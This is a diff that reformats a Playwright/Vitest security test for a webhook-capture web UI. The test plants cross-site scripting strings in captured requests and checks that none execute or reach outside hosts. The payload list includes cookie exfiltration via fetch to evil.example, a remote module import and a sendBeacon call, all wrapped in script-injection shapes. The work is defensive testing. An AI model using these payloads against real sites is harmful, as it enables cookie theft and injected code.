@@ -1,5 +1,5 @@
-import { afterAll, beforeAll, expect, test } from 'vitest';
 import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
 import { type TestApp, withApp } from '../support/app.ts';
 import { openBrowser, openUi } from '../support/browser.ts';
 import { sendRaw } from '../support/raw-client.ts';
@@ -10,7 +10,18 @@ beforeAll(async () => {
 });
 afterAll(() => browser.close());
 
-const RUNS = ['alert(1)', 'window.pwned=1', 'top.pwned=1', "fetch('//evil.example/'+document.cookie)", 'parent.pwned=1', "import('//evil.example/x.js')", 'confirm`1`', 'document.title="pwned"', 'eval(name)', 'navigator.sendBeacon("//evil.example")'];
+const RUNS = [
+  'alert(1)',
+  'window.pwned=1',
+  'top.pwned=1',
+  "fetch('//evil.example/'+document.cookie)",
+  'parent.pwned=1',
+  "import('//evil.example/x.js')",
+  'confirm`1`',
+  'document.title="pwned"',
+  'eval(name)',
+  'navigator.sendBeacon("//evil.example")',
+];
 const SHAPES = [
   '<script>X</script>',
   '"><script>X</script>',
@@ -46,12 +57,27 @@ async function plant(app: TestApp): Promise<void> {
   for (const [at, text] of STRINGS.entries()) {
     const body = Buffer.from(at % 2 === 0 ? JSON.stringify({ [text]: text, id: text }) : text);
     const type = at % 2 === 0 ? 'application/json' : at % 4 === 1 ? 'text/html' : 'image/svg+xml';
-    const lines = [`Host: ${inHeader(text)}`, `${asName(text)}: ${inHeader(text)}`, `X-Contentful-Topic: ${inHeader(text)}`, `X-Contentful-Webhook-Name: ${inHeader(text)}`, `Content-Type: ${type}`, `Content-Length: ${body.length}`];
-    await sendRaw(app.capturePort, Buffer.concat([Buffer.from(`POST ${path}/${inTarget(text)} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`, 'latin1'), body]));
+    const lines = [
+      `Host: ${inHeader(text)}`,
+      `${asName(text)}: ${inHeader(text)}`,
+      `X-Contentful-Topic: ${inHeader(text)}`,
+      `X-Contentful-Webhook-Name: ${inHeader(text)}`,
+      `Content-Type: ${type}`,
+      `Content-Length: ${body.length}`,
+    ];
+    await sendRaw(
+      app.capturePort,
+      Buffer.concat([
+        Buffer.from(`POST ${path}/${inTarget(text)} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`, 'latin1'),
+        body,
+      ]),
+    );
     await sendRaw(app.capturePort, Buffer.from(`${inTarget(text)} ${path} HTTP/1.1\r\nHost: x\r\n\r\n`, 'latin1'));
   }
   await app.call('createEndpoint', { body: { name: (STRINGS[0] as string).slice(0, 80) } });
-  await app.call('createDestination', { body: { name: (STRINGS[2] as string).slice(0, 80), url: 'http://127.0.0.1:9/' } });
+  await app.call('createDestination', {
+    body: { name: (STRINGS[2] as string).slice(0, 80), url: 'http://127.0.0.1:9/' },
+  });
   await app.call('saveSearch', { body: { name: (STRINGS[4] as string).slice(0, 80), query: STRINGS[6] as string } });
   await app.call('changeDelivery', { params: { id: 1 }, body: { note: STRINGS[8] as string } });
 }
@@ -59,7 +85,10 @@ async function plant(app: TestApp): Promise<void> {
 /** Walk down the list with the keyboard, the given tab open, until the last delivery is shown. */
 async function walk(page: Page, tab: string, count: number): Promise<void> {
   const grid = page.getByRole('grid', { name: /Deliveries/ });
-  await page.getByRole('article').getByRole('tab', { name: new RegExp(tab) }).click();
+  await page
+    .getByRole('article')
+    .getByRole('tab', { name: new RegExp(tab) })
+    .click();
   await grid.focus();
   for (let at = 0; at < count; at++) await page.keyboard.press('j');
   await page.getByRole('article', { name: 'Delivery 1', exact: true }).waitFor();
@@ -72,18 +101,35 @@ test('200 script strings in every captured field run nothing and meet no policy'
     const { page, context, troubles } = await openUi(browser, app);
     const outside: string[] = [];
     page.on('request', (request) => {
-      if (!request.url().startsWith(app.origin) && !request.url().startsWith('blob:') && !request.url().startsWith('data:')) outside.push(request.url());
+      if (
+        !request.url().startsWith(app.origin) &&
+        !request.url().startsWith('blob:') &&
+        !request.url().startsWith('data:')
+      )
+        outside.push(request.url());
     });
     const total = (await app.call('status', {})).deliveries;
     expect(total).toBe(400);
-    await page.getByRole('grid', { name: /Deliveries/ }).getByRole('row').nth(1).click();
+    await page
+      .getByRole('grid', { name: /Deliveries/ })
+      .getByRole('row')
+      .nth(1)
+      .click();
     for (const tab of ['Overview', 'Headers', 'Body']) {
       await walk(page, tab, total);
       await page.keyboard.press('Home');
       await page.getByRole('article', { name: `Delivery ${total}`, exact: true }).waitFor();
     }
-    for (const tab of ['Signature', 'Sends', 'Notes']) await page.getByRole('article').getByRole('tab', { name: new RegExp(tab) }).click();
-    const marks = await page.evaluate(() => ({ pwned: 'pwned' in window, title: document.title, scripts: document.scripts.length }));
+    for (const tab of ['Signature', 'Sends', 'Notes'])
+      await page
+        .getByRole('article')
+        .getByRole('tab', { name: new RegExp(tab) })
+        .click();
+    const marks = await page.evaluate(() => ({
+      pwned: 'pwned' in window,
+      title: document.title,
+      scripts: document.scripts.length,
+    }));
     expect(marks).toMatchObject({ pwned: false });
     expect(marks.title).not.toBe('pwned');
     expect(marks.scripts).toBe(1);
